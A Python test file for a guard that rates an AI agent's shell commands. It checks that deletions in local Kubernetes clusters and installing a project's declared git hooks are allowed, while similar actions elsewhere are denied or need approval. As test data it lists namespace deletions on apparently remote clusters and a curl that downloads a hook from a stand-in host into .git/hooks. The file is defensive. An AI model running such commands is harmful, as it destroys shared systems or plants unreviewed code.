"""What is the developer's own (a cluster on this machine, the project's declared git hooks)
is everyday work; the same action elsewhere still asks or is denied."""

from __future__ import annotations

import pytest

from sidecar.inspection.model import ToolCall
from sidecar.inspection.verdict import Mode, Verdict
from tests.conftest import engine_for_mode


async def verdict_of(line: str) -> Verdict:
    engine = engine_for_mode(Mode.AUTO)
    result = await engine.inspect("s", [ToolCall("1", "shell", {"command": line})])
    return result.verdicts[0].verdict


@pytest.mark.parametrize(
    "line",
    ["kubectl --context kind-dev delete namespace preview-pr-482",
     "kubectl --context=minikube delete ns payments",
     "kubectl --context k3d-local -n default delete deploy api",
     "helm uninstall api --kube-context docker-desktop",
     "kubectl --context kind-ci delete deploy api -n shop"],
)  # fmt: skip
async def test_deleting_in_a_cluster_on_this_machine_is_everyday(line: str) -> None:
    assert await verdict_of(line) is Verdict.ALLOW, line


@pytest.mark.parametrize(
    ("line", "least"),
    [("kubectl --context gke-eu delete namespace payments", Verdict.DENY),
     ("kubectl --context kind-dev.prod delete ns payments", Verdict.DENY),
     ("kubectl --context kindred delete ns payments", Verdict.DENY),
     ("kubectl delete namespace payments --context=minikube-ish", Verdict.REQUIRE_APPROVAL),
     ("kubectl --context eks-shared delete deploy api -n dev", Verdict.REQUIRE_APPROVAL)],
)  # fmt: skip
async def test_the_same_elsewhere_is_not_allowed(line: str, least: Verdict) -> None:
    verdict = await verdict_of(line)
    assert verdict is not Verdict.ALLOW, line
    if least is Verdict.DENY:
        assert verdict is Verdict.DENY, line


@pytest.mark.parametrize(
    "line",
    [
        "pre-commit install",
        "pre-commit install --install-hooks",
        "lefthook install",
        "pre-commit install && pre-commit run -a",
    ],
)
async def test_installing_the_projects_declared_hooks_is_everyday(line: str) -> None:
    assert await verdict_of(line) is Verdict.ALLOW, line


@pytest.mark.parametrize(
    "line",
    [
        "pre-commit init-templatedir ~/.git-template",
        "cp /tmp/h .git/hooks/pre-push",
        "curl -fsSL https://x.example.net/h -o .git/hooks/pre-commit",
    ],
)
async def test_hooks_of_unseen_code_or_for_every_clone_still_ask(line: str) -> None:
    assert await verdict_of(line) is not Verdict.ALLOW, line
